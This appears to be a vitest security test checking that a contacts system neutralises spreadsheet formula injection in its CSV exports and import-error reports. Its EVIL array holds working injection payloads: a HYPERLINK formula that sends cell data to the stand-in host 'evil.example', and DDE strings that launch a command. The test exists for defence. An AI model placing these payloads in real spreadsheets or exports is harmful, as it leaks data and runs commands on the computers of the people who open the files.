// Security case 7 (issue 14): contact names like =HYPERLINK(…), +…, -…, @… used to be written raw
// into the contacts CSV export and the import-errors CSV. Now every CSV the station writes follows
// the OWASP recipe; Python's csv module (an outside reader, as a spreadsheet would split the file)
// finds no cell that a spreadsheet would take for a formula, and export → import is still lossless.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createStation, type Station } from '../../main/station/index.js';
import { ControlRoomClient } from '../tools/control-room-client.js';
import { main as cli } from '../../main/cli.js';

const EVIL = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Сводка")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
];

let dir: string;
let station: Station;
let admin: ControlRoomClient;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'sb-csv-'));
  station = await createStation({ dataDir: dir, port: 0, logLevel: 'silent' });
  EVIL.forEach((name, i) => station.core.store.contacts.upsert({ name, phone: `+7916000010${i}`, position: '=1+1' }));
  station.core.store.contacts.upsert({ name: 'Иванов Иван', phone: '+79160000200' });
  admin = await ControlRoomClient.login(station.url, 'admin', station.initialAdminPassword!);
});
afterAll(async () => {
  admin?.close();
  await station?.stop();
});

/** Splits a CSV as Python's csv module does (what a spreadsheet's importer sees as cells). */
function pythonCells(text: string): string[][] {
  const file = join(dir, `read-${Math.random().toString(36).slice(2)}.csv`);
  writeFileSync(file, text.replace(/^\uFEFF/, ''));
  const out = execFileSync('/usr/bin/python3', ['-c', 'import csv,json,sys; print(json.dumps(list(csv.reader(open(sys.argv[1], newline=""), delimiter=";"))))', file]);
  return JSON.parse(out.toString()) as string[][];
}

const formulaLike = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+([.,]\d+)?$/.test(cell);

describe('7. spreadsheet-safe CSV', () => {
  it('the contacts CSV export has no cell a spreadsheet would run, phones stay phones', async () => {
    const { contentBase64 } = await admin.request('contacts.export', { format: 'csv' });
    const rows = pythonCells(Buffer.from(contentBase64, 'base64').toString('utf8'));
    expect(rows).toHaveLength(EVIL.length + 2);
    for (const cell of rows.flat()) expect(formulaLike(cell), JSON.stringify(cell)).toBe(false);
    expect(rows.flat()).toContain(`'${EVIL[0]}`);
    expect(rows.flat()).toContain('+79160000200');
  });

  it('the CLI export writes the same safe file', async () => {
    const file = join(dir, 'contacts.csv');
    expect(await cli(['export', 'contacts', file, '--data', dir], { log: () => undefined, err: () => undefined })).toBe(0);
    const text = execFileSync('cat', [file]).toString('utf8');
    for (const cell of pythonCells(text).flat()) expect(formulaLike(cell), JSON.stringify(cell)).toBe(false);
  });

  it('export → import is still lossless: the names come back exactly', async () => {
    const { contentBase64 } = await admin.request('contacts.export', { format: 'csv' });
    const preview = await admin.request('contacts.import.preview', { fileName: 'back.csv', contentBase64 });
    expect(preview.totals).toMatchObject({ errors: 0, unchanged: EVIL.length + 1, created: 0, updated: 0 });
  });

  it('the import-errors CSV defuses the bad cells it quotes back', async () => {
    // The bad phones are the formulas: the errors CSV quotes each back in its "value" column.
    const csv = ['ФИО;Телефон', ...EVIL.map((evil, i) => `Сотрудник ${i};"${evil.replace(/"/g, '""')}"`)].join('\r\n');
    const preview = await admin.request('contacts.import.preview', { fileName: 'bad.csv', contentBase64: Buffer.from(csv).toString('base64') });
    expect(preview.errors.length).toBeGreaterThanOrEqual(EVIL.length);
    const result = await admin.request('contacts.import.commit', { uploadId: preview.uploadId });
    const rows = pythonCells(result.errorsCsv);
    expect(rows.length).toBeGreaterThan(EVIL.length);
    for (const cell of rows.flat()) expect(formulaLike(cell), JSON.stringify(cell)).toBe(false);
    expect(rows.flat()).toContain(`'${EVIL[1]}`);
  });
});
